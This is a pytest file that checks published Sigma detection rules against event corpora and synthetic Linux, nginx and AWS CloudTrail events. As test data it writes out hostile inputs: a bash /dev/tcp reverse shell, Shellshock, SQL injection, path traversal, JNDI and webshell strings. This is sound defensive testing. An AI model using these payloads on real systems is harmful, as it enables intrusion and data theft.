"""All published rules load, hit what they are known to hit, and fire through our taxonomy."""

from __future__ import annotations

import gzip
import json
from collections import Counter
from typing import TYPE_CHECKING, Any

import orjson
import pytest

from detect.sigma import RuleSet, load_rules
from detect.sigma.batch import BatchMatcher, EventText
from tocsin.route import route_of

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]

#: Hits beyond the published ones, by corpus, line and rule. The published hits were made on the
#: events' own field names; the taxonomy knows that Defender writes "Threat Name" and "Source
#: Name", and that the security log's process creation (4688) calls Image NewProcessName,
#: ParentImage ParentProcessName and LogonId SubjectLogonId.
BEYOND = {
    "sigmahq-regression": {(11, "a7c3e5f2-8b1d-4e9a-b6c2-3d7f5e8a9b4c"): "Defender's spaces"},
    "evtx-attack-samples": {
        (800, "c75309a3-59f8-4a8d-9c2c-4c927ad50555"): "NewProcessName ends with \\plink.exe",
        (5209, "d21374ff-f574-44a7-9998-4a8c8bf33d7d"): "ParentProcessName is WmiPrvSE.exe",
    },
}


@pytest.fixture(scope="module")
def published(shared: Path) -> RuleSet:
    archive = shared / "data" / "sigma" / "sigmahq-rules.tar.gz"
    return load_rules([archive], builtin=False, allow_errors=True)


def test_all_rules_load(published: RuleSet, capsys: pytest.CaptureFixture[str]) -> None:
    assert [str(error) for error in published.errors] == []
    assert len(published.rules) + len(published.unsupported) == 3754
    reasons = Counter(refused.reason for refused in published.unsupported)
    with capsys.disabled():
        print(f"\n{len(published.rules)} evaluated, {len(published.unsupported)} not:")  # noqa: T201
        for reason, count in reasons.most_common():
            print(f"  {count:4} {reason}")  # noqa: T201
    expected = ("no taxonomy for the logsource ", "no list is configured for the placeholder ")
    assert all(reason.startswith(expected) for reason in reasons)
    routed = {"product=windows", "product=linux", "product=aws", "category=webserver"}
    without = {reason.removeprefix(expected[0]) for reason in reasons}
    assert {source for source in without if source in routed} == set()


def document(logged: dict[str, Any]) -> dict[str, Any]:
    """An event of evtx_dump as a normalizer keeps it: Windows' own names below winlog."""
    system, code = logged["System"], logged["System"]["EventID"]
    winlog = {key: value for key, value in system.items() if key not in ("EventID", "Provider")}
    winlog["channel"] = winlog.pop("Channel")
    winlog["computer_name"] = winlog.pop("Computer")
    winlog["provider_name"] = system["Provider"]["#attributes"].get("Name")
    if isinstance(data := logged.get("EventData"), dict):
        data = {key: value for key, value in data.items() if key != "#attributes"}
        if isinstance(data.get("Data"), dict):
            data["Data"] = data["Data"].get("#text")
        winlog["event_data"] = data
    if isinstance(user := logged.get("UserData"), dict):
        parts = [part for part in user.values() if isinstance(part, dict)]
        winlog["user_data"] = {k: v for part in parts for k, v in part.items() if k[0] != "#"}
    code = code["#text"] if isinstance(code, dict) else code
    return {"event": {"code": str(code)}, "winlog": winlog}


def events(shared: Path, corpus: str) -> Iterator[tuple[int, dict[str, Any]]]:
    with gzip.open(shared / "data" / "sigma" / f"{corpus}.jsonl.gz", "rb") as lines:
        for number, line in enumerate(lines):
            yield number, document(orjson.loads(line)["event"]["Event"])


@pytest.mark.parametrize("corpus", list(BEYOND))
def test_hits_agree_with_the_published_ones(published: RuleSet, shared: Path, corpus: str) -> None:
    text = (shared / "data" / "sigma" / f"{corpus}.hits.tsv").read_text()
    known = {(int(n), rule) for n, rule in (line.split("\t") for line in text.splitlines())}
    hits = {
        (number, match.rule.rule.id)
        for number, event in events(shared, corpus)
        for match in published.match(event)
    }
    assert known - hits == set()
    assert hits - known == set(BEYOND[corpus])


@pytest.mark.parametrize("corpus", list(BEYOND))
def test_the_indexed_matcher_agrees(published: RuleSet, shared: Path, corpus: str) -> None:
    """On every rule and every event, with the same reasons, at first sight and with experience."""
    documents = [event for _, event in events(shared, corpus)]
    texts = [EventText(orjson.dumps(event), route_of(event)) for event in documents]
    plain = [
        [(match.rule.rule.id, match.hits) for match in published.match(event)]
        for event in documents
    ]
    matcher = BatchMatcher(published)
    for size in (700, len(texts)):
        for start in range(0, len(texts), size):
            found = matcher.match(texts[start : start + size])
            for at, expected in enumerate(plain[start : start + size]):
                got = found[at].matches if at in found else []
                assert [(match.rule.rule.id, match.hits) for match in got] == expected


def test_the_regression_files_fire_the_rules_they_were_made_for(
    published: RuleSet, shared: Path
) -> None:
    folder = shared / "data" / "sigma"
    wanted = {
        entry["file"]: set(entry["rule_ids"])
        for entry in json.loads((folder / "sigmahq-regression.expected.json").read_text())
    }
    fired: dict[str, set[str]] = {file: set() for file in wanted}
    with gzip.open(folder / "sigmahq-regression.jsonl.gz", "rb") as lines:
        for line in map(orjson.loads, lines):
            for match in published.match(document(line["event"]["Event"])):
                fired.setdefault(line["file"], set()).add(match.rule.rule.id)
    missed = {file: rules - fired[file] for file, rules in wanted.items() if rules - fired[file]}
    assert missed == {}


# --- rules for Linux, web and AWS, on events as our normalizer makes them


def syslog(program: str, message: str, **changes: Any) -> dict[str, Any]:
    original = f"Jan  5 10:00:00 web-1 {program}[7]: {message}"
    return {
        "event": {"dataset": "system.auth", "original": original},
        "process": {"name": program},
        "message": message,
        **changes,
    }


def web(target: str, agent: str = "Mozilla/5.0", status: int = 200) -> dict[str, Any]:
    path, _, query = target.partition("?")
    return {
        "event": {
            "dataset": "nginx.access",
            "category": ["web"],
            "original": f'203.0.113.9 - - [05/Jan/2026:10:00:00 +0000] "GET {target} HTTP/1.1"',
        },
        "http": {"request": {"method": "GET"}, "response": {"status_code": status}},
        "url": {"original": target, "path": path, "query": query},
        "user_agent": {"original": agent},
        "source": {"ip": "203.0.113.9"},
    }


def trail(source: str, name: str, **changes: Any) -> dict[str, Any]:
    return {
        "event": {"dataset": "aws.cloudtrail"},
        "aws": {
            "cloudtrail": {
                "eventSource": f"{source}.amazonaws.com",
                "eventName": name,
                "userIdentity": {"type": "IAMUser", "userName": "deploy"},
                **changes,
            }
        },
    }


def sudo(command: str) -> dict[str, Any]:
    event = syslog("sudo", f"bob : PWD=/home/bob ; USER=root ; COMMAND={command}")
    event["process"] |= {"command_line": command}
    return event


POSITIVES = [
    ("Suspicious OpenSSH Daemon Error", syslog("sshd", "error in libcrypto")),
    (
        "Privileged User Has Been Created",
        syslog("useradd", "new user: name=x, UID=0, GID=0, home=/"),
    ),
    ("Shellshock Expression", syslog("httpd", "() { :;}; /bin/true")),
    ("Suspicious Use of /dev/tcp", syslog("bash", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1")),
    ("Linux Crypto Mining Indicators", sudo("/tmp/x --donate-level=0 -o pool.example.com")),
    ("SQL Injection Strings In URI", web("/item?id=1%20UNION%20SELECT%201,2")),
    ("Path Traversal Exploitation Attempts", web("/get?f=../../../etc/passwd")),
    ("JNDIExploit Pattern", web("/x?y=/Basic/Command/Base64/d2hvYW1p")),
    ("Suspicious User-Agents Related To Recon Tools", web("/", agent="sqlmap/1.8")),
    ("Windows Webshell Strings", web("/up/x.aspx?c=whoami")),
    ("AWS CloudTrail Important Change", trail("cloudtrail", "StopLogging")),
    (
        "AWS Root Credentials",
        trail("iam", "CreateUser", userIdentity={"type": "Root"}, eventType="AwsApiCall"),
    ),
    (
        "AWS S3 Bucket Versioning Disable",
        trail(
            "s3",
            "PutBucketVersioning",
            requestParameters={"VersioningConfiguration": {"Status": "Suspended"}},
        ),
    ),
    (
        "Restore Public AWS RDS Instance",
        trail(
            "rds",
            "RestoreDBInstanceFromDBSnapshot",
            responseElements={"publiclyAccessible": True},
        ),
    ),
    ("AWS EC2 VM Export Failure", trail("ec2", "CreateInstanceExportTask")),
]


@pytest.mark.parametrize(("title", "event"), POSITIVES, ids=[title for title, _ in POSITIVES])
def test_published_rules_fire_through_our_taxonomy(
    published: RuleSet, title: str, event: dict[str, Any]
) -> None:
    assert title in {match.rule.rule.name for match in published.match(event)}


def test_ordinary_events_fire_nothing(published: RuleSet) -> None:
    ordinary = [
        syslog("sshd", "Accepted publickey for alice from 198.51.100.7 port 50000 ssh2"),
        sudo("/usr/bin/systemctl status nginx"),
        web("/index.html"),
        web("/shop/item?id=17&lang=en", status=404),
        trail("ec2", "DescribeInstances"),
    ]
    fired = [m.rule.rule.name for event in ordinary for m in published.match(event)]
    assert fired == []


def test_our_rules_and_the_published_ones_load_together(shared: Path) -> None:
    rules = load_rules([shared / "data" / "sigma" / "sigmahq-rules.tar.gz"], builtin=True)
    assert not rules.errors
    assert len(rules.correlations) >= 5
